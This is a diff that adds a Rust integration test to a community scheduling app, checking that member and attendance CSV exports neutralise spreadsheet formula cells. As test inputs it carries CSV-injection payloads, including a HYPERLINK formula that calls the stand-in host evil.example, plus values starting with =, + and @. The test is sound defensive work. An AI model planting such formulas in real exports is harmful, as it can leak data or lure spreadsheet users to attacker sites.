@@ -154,3 +154,90 @@ async fn people_who_left_cannot_write_reflections_to_the_circle() {
     assert!(posted.text().contains("no longer a member"));
     assert_eq!(app.snapshot().await, before, "nothing was stored");
 }
+
+#[tokio::test]
+async fn exports_neutralise_cells_that_a_spreadsheet_would_run() {
+    let app = spawn_app().await;
+    let circle = app
+        .create_circle(serde_json::json!({ "name": "Formulas", "timezone": "UTC" }))
+        .await;
+    let id = circle["id"].as_str().unwrap().to_string();
+    let formula = r#"=HYPERLINK("http://evil.example/?x","open")"#;
+    // A stranger signs up through the public form; an organiser adds another.
+    app.browser(
+        Method::POST,
+        "/c/formulas/join",
+        Some(&[("display_name", formula), ("email", "=cmd@example.org")]),
+    )
+    .await
+    .expect(200);
+    let added = app
+        .post(
+            &format!("/api/v1/circles/{id}/members"),
+            &serde_json::json!({ "email": "+sum@example.org", "display_name": "@SUM(A1:A9)" }),
+        )
+        .await
+        .expect(201);
+    let session = app
+        .schedule(&id, serde_json::json!({ "freq": "weekly", "first_date": "2031-06-05", "local_time": "19:00", "duration_minutes": 60, "count": 1 }))
+        .await[0]["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    app.put(
+        &format!(
+            "/api/v1/sessions/{session}/rsvps/{}",
+            added["member_id"].as_str().unwrap()
+        ),
+        &serde_json::json!({ "response": "yes" }),
+    )
+    .await
+    .expect(200);
+
+    let assert_neutral = |csv: &str, risky: &[&str]| {
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect();
+        for r in risky {
+            assert!(
+                cells.iter().any(|c| *c == format!("'{r}")),
+                "{r} is neutralised in:\n{csv}"
+            );
+        }
+        for c in &cells {
+            assert!(
+                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula cell {c:?} in:\n{csv}"
+            );
+        }
+    };
+    let dash = app.dashboard_as("organiser@example.org").await;
+    let members = dash
+        .get(&format!("/dashboard/circles/{id}/export/members.csv"))
+        .await;
+    assert_eq!(members.status, 200);
+    assert_neutral(
+        members.text(),
+        &[
+            formula,
+            "=cmd@example.org",
+            "@SUM(A1:A9)",
+            "+sum@example.org",
+        ],
+    );
+    let attendance = dash
+        .get(&format!("/dashboard/circles/{id}/export/attendance.csv"))
+        .await;
+    assert_neutral(attendance.text(), &["@SUM(A1:A9)", "+sum@example.org"]);
+    let out = crate::cli::roundtable(&app.db_url)
+        .args(["export", "attendance", "--circle", "formulas"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    assert_neutral(
+        &String::from_utf8(out.stdout).unwrap(),
+        &["@SUM(A1:A9)", "+sum@example.org"],
+    );
+}
